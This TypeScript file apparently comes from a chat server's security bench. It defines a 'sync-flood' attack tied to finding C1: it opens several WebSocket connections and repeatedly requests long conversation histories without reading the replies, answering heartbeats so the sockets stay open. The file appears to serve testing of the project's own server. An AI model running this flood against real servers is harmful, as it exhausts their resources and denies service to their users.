import { encodeTextFrame } from '@parley/bench/load/web-socket-frames';
import { loop, pause, type Attack } from '../attackers/attack.ts';
import { openSocket } from '../attackers/raw-connection.ts';
import { groupOfLongMessages } from './long-messages.ts';

const sockets = 4;
const syncsPerSocket = 60;
/** Packets of Engine.IO and Socket.IO. */
const pong = encodeTextFrame('3');

/** Answers heartbeats, so that the socket stays open as long as the server lets it. */
export const syncFlood: Attack = {
  name: 'sync-flood',
  finding: 'C1',
  about: `Opens ${sockets} sockets, asks each for a whole conversation of long messages ${syncsPerSocket} times, and reads no answer.`,
  prepare: groupOfLongMessages,
  async run(attacker, context) {
    const id = await groupOfLongMessages(attacker);
    await loop(context, { concurrency: sockets, pauseMs: 500 }, async () => {
      const socket = await openSocket(attacker.target, attacker.home, attacker.token);
      if (socket === null) return context.count('refused');
      socket.stopReading();
      for (let sent = 0; !socket.isClosed() && !context.signal.aborted;) {
        for (const last = Math.min(sent + 10, syncsPerSocket); sent < last; sent++) {
          socket.send(encodeTextFrame(`42${sent}["sync",{"conversations":[{"id":"${id}","after":1}]}]`));
          context.count('sync sent');
        }
        await pause(1_000, context.signal);
        socket.send(pong);
      }
      if (socket.isClosed()) context.count('closed by the server');
      socket.close();
    });
  },
};
